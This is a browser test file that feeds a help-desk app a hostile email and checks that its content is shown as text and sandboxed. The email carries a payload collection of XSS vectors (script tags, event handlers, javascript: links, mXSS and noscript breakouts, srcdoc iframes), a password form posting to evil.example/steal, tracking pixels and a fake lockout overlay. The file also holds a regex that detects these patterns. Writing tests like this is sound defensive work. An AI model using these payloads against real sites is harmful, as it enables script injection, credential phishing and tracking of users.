import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openBrowser, recordedContext, signIn, startDesk, type DeskBrowser, type DeskServer } from '../support/browser.ts'

// Customer mail is hostile (README promise 8). Every payload below tries to run script (setting
// window.__pwned, opening a dialog) or to make the browser fetch from another origin.
const evil = 'http://evil.example'
const htmlPart = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=${evil}/refresh">
<base href="${evil}/">
<link rel="stylesheet" href="${evil}/style.css">
<style>@import url(${evil}/import.css); body { background: url(${evil}/bg.png) }</style>
<script>window.__pwned = 'script'; alert('script')</script>
<script src="${evil}/remote.js"></script>
</head><body onload="window.__pwned='onload';alert('onload')" background="${evil}/body-bg.png">
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:#c00;color:#fff">OVERLAY: your account is locked</div>
<p>Dear CEO, my order never arrived and my lawyer will sue you.</p>
<img src=x onerror="window.__pwned='img';alert('img')">
<img src="${evil}/pixel.png" width="1" height="1" alt="pixel">
<img srcset="${evil}/srcset.png 1x" alt="srcset">
<svg onload="window.__pwned='svg';alert('svg')"><image href="${evil}/svg-image.png"/></svg>
<a href="javascript:window.__pwned='link';alert('link')">Click to see my receipt</a>
<a href="jAvAsCrIpT&colon;alert(1)">encoded</a>
<iframe src="${evil}/frame"></iframe>
<iframe srcdoc="<script>parent.__pwned='srcdoc';alert('srcdoc')</script>"></iframe>
<object data="${evil}/object.swf"></object>
<embed src="${evil}/embed.swf">
<video poster="${evil}/poster.png" src="${evil}/video.mp4"></video>
<audio src="${evil}/audio.mp3" autoplay></audio>
<table background="${evil}/table-bg.png"><tr><td style="background-image:url(${evil}/td-bg.png)">cell</td></tr></table>
<form action="${evil}/steal" method="post"><input name="password" value="hunter2"><button>Verify</button></form>
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss';alert('mxss')"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=window.__pwned='noscript';alert('noscript')>"></p></noscript>
</body></html>`

const textPart = [
  'Dear CEO,',
  '<script>window.__pwned = "text"; alert("text")</script>',
  '<img src=x onerror="window.__pwned=\'text-img\';alert(1)">',
  '<svg onload=alert(1)>',
  `See ${evil}/pixel.png and javascript:alert(1)`,
].join('\r\n')

const subject = `Refund now <script>window.__pwned='subject';alert('subject')</script><img src=x onerror=alert(1)>`

function hostileEml(): Uint8Array {
  const boundary = 'hostile-boundary-1'
  const lines = [
    `From: "<img src=x onerror=alert('name')> <script>alert(1)</script>" <mallory@customer.test>`,
    'To: escalations@example.com',
    `Subject: ${subject}`,
    'Date: Sun, 22 Nov 2026 09:00:00 +0000',
    `Message-ID: <hostile-${Date.now()}@customer.test>`,
    'MIME-Version: 1.0',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    textPart,
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    htmlPart,
    `--${boundary}--`,
    '',
  ]
  return new TextEncoder().encode(lines.join('\r\n'))
}

describe('hostile mail in the browser', () => {
  let desk: DeskServer
  let browser: DeskBrowser

  beforeAll(async () => {
    ;[desk, browser] = await Promise.all([startDesk('browser_hostile'), openBrowser()])
  })
  afterAll(async () => {
    await browser?.close()
    await desk?.shutdown()
  })

  it('shows the message as text, frames the sanitized HTML, and runs or fetches nothing', async () => {
    const { page, record } = browser
    const outcome = await desk.ingest(hostileEml())
    expect(outcome.status).toBe('created')

    await signIn(page, desk.printedSignInLink())
    const row = page.locator('table.queue tr', { hasText: outcome.case! })
    // The subject is shown as text in the queue, not parsed as markup.
    await expect.poll(() => row.innerText()).toContain("<script>window.__pwned='subject'")
    await row.getByRole('link', { name: outcome.case! }).click()
    await page.waitForURL(/\/cases\/[0-9a-f-]{36}$/)

    await expect.poll(() => page.locator('.case-head h1').innerText()).toContain('<script>')
    const message = page.locator('#thread article.message').first()
    await expect.poll(() => message.locator('header strong').innerText()).toContain("<img src=x onerror=alert('name')>")
    await expect.poll(() => message.locator('pre.mail-body').innerText()).toContain('<script>window.__pwned = "text"')

    // Expand the formatted version: the frame loads from the desk, sandboxed.
    const framed = page.waitForResponse((r) => /\/messages\/[0-9a-f-]+\/html$/.test(r.url()))
    await message.locator('details summary').click()
    const response = await framed
    expect(response.status()).toBe(200)
    const headers = await response.allHeaders()
    expect(headers['content-security-policy']).toMatch(/sandbox/)
    expect(headers['content-security-policy']).not.toMatch(/script-src/)

    const iframe = message.locator('iframe.mail-html')
    expect(await iframe.getAttribute('sandbox')).toBe('')
    const frame = await (await iframe.elementHandle())!.contentFrame()
    expect(frame).not.toBeNull()
    await frame!.waitForLoadState('load')
    await expect.poll(() => frame!.locator('body').innerText()).toContain('my order never arrived')
    const frameHtml = await frame!.content()
    expect(frameHtml).not.toMatch(
      /<script|onerror|onload|javascript:|<iframe|<object|<embed|<form|<style|<link|<meta http-equiv|position:\s*fixed|evil\.example/i,
    )

    // Give any payload a chance (image errors, svg load, meta refresh), then check nothing fired.
    await page.waitForTimeout(500)
    expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined()
    expect(await frame!.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined()
    expect(record.dialogs).toEqual([])
    expect(record.pageErrors).toEqual([])
    expect(record.foreignRequests).toEqual([])
    // A CSP refusal would also mean a payload got as far as trying.
    expect(record.consoleErrors).toEqual([])
    // The overlay cannot cover the desk: the page under the frame's corner is still the desk's
    // (seen from the top: opening the formatted version scrolled the page to it).
    await page.evaluate(() => window.scrollTo(0, 0))
    const topElement = await page.evaluate(() => document.elementFromPoint(5, 5)?.closest('header.top') !== null)
    expect(topElement).toBe(true)
    // The frame never navigated away (meta refresh, base href, forms).
    expect(new URL(frame!.url()).hostname).toBe('localhost')
  })

  // The watchers above would have seen a payload: the same markup outside the desk fires them all.
  it('has watchers that catch a dialog, a script and a request to another origin', async () => {
    const control = await recordedContext(browser.browser)
    try {
      await control.page.setContent(`<img src="${evil}/control.png"><script>window.__pwned = 'control'; alert('control')</script>`)
      expect(await control.page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBe('control')
      await expect.poll(() => control.record.foreignRequests).toContain(`${evil}/control.png`)
      expect(control.record.dialogs).toEqual(['alert: control'])
    } finally {
      await control.context.close()
    }
  })
})
